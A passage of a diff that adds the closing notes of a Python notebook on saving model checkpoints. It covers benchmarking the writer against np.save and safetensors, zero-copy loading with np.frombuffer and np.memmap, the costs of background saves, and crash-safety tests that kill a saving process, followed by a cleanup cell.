+#   benchmarks.bench_checkpoint` measures each against `np.save` and the
+#   reference `safetensors` writer.
+# * **Loading without copies.** `np.frombuffer` on the file's bytes makes
+#   arrays that share that buffer; `np.memmap` would go further and read
+#   pages only when touched — how large models start in seconds.
+# * **Background saves** cost one host copy of the state (memory!) and
+#   compete with training for memory bandwidth and, for SHA-256, for a core.
+# * **Crash safety is tested by killing**: the package's tests start a
+#   process that saves in a loop and `SIGKILL` it at random moments, dozens
+#   of times; after each kill the file at the path must load and verify.
+
+# %%
+_workdir.cleanup()  # remove every file this notebook wrote
